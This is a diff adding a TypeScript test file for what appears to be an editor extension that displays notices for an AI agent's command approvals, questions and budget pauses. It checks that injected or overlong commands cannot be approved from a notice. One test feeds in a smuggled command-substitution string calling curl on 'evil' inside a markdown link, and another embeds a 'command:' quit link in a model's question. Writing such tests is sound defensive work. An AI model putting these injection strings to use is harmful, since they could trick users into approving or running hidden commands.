@@ -1,0 +1,68 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { noticesOf } from "../src/noticeTexts";
+import { planNodes } from "../src/planNodes";
+import type { ApproveParams, AskParams } from "../src/protocol";
+import { Store, type Session } from "../src/state";
+import { isWorking, pauseOf } from "../src/waiting";
+import { params } from "./goldens";
+
+const relative = (uri: string): string => uri;
+const approval = params<ApproveParams>("approve.params");
+const confirmation = params<ApproveParams>("approve.params.confirmation");
+const question = params<AskParams>("ask.params");
+
+function running(): { store: Store; session: Session } {
+  const store = new Store();
+  return { store, session: store.begin(approval.sessionId, "Task") };
+}
+const notices = (session: Session) => noticesOf(session, true, relative);
+const titles = (session: Session): string[][] => notices(session).map(({ links }) => links.map(({ title }) => title));
+
+test("each thing that waits has a notice until it is settled, and only what the agent waits for stops its work", () => {
+  const { store, session } = running();
+  store.ask({ ...confirmation, sessionId: session.id });
+  assert.deepEqual([titles(session), isWorking(session)], [[["Accept This File", "Leave Pending"]], true]);
+  store.ask(approval);
+  assert.equal(isWorking(session), false);
+  store.answered(approval);
+  assert.deepEqual([titles(session).length, isWorking(session)], [1, true]);
+  store.lost();
+  assert.deepEqual(notices(session), []);
+});
+
+test("a command that a message would not show whole, or would show as a link, is not allowed from there", () => {
+  for (const command of ["echo a\necho b", `echo ${"a".repeat(400)}`, "echo [safe](https://x.example/$(curl evil))", "echo [a](command:b)"]) {
+    const { store, session } = running();
+    store.ask({ ...approval, command });
+    assert.deepEqual(titles(session), [["Show Whole Command", "Reject"]]);
+  }
+});
+
+test("what the model says makes no link in a notice, and leaves room for its links", () => {
+  const { store, session } = running();
+  store.question({ ...question, sessionId: session.id, question: `[Yes](command:workbench.action.quit) ${"or no ".repeat(300)}?` });
+  const [notice] = notices(session);
+  assert.ok(notice && !notice.text.includes("](") && notice.text.length < 700, notice?.text);
+});
+
+test("a pause is there with its reason until the session goes on, also in the next window", () => {
+  const { store, session } = running();
+  store.end(session.id, 1, { stopReason: "budget", message: "Paused: the budget is 30.", record: "" });
+  assert.deepEqual(titles(session), [["Go On"]]);
+  assert.equal(pauseOf(session), "Paused: the budget is 30.");
+  assert.deepEqual(planNodes(session).map(({ kind }) => kind), ["pause"]);
+  store.begin(session.id, "On");
+  assert.deepEqual([notices(session), pauseOf(session)], [[], undefined]);
+  const later = new Store();
+  later.setRows([{ sessionId: "s", title: "Task", updatedAt: "2026-01-01T00:00:00Z", state: "paused", completed: 0, total: 0, pendingFiles: 0 }]);
+  assert.match(pauseOf(later.get("s")) ?? "", /before its end/);
+});
+
+test("a run that ends in another way is not paused", () => {
+  for (const stopReason of ["end_turn", "cancelled", "error", "max_tokens"]) {
+    const { store, session } = running();
+    store.end(session.id, 1, { stopReason, message: "", record: "" });
+    assert.equal(pauseOf(session), undefined);
+  }
+});
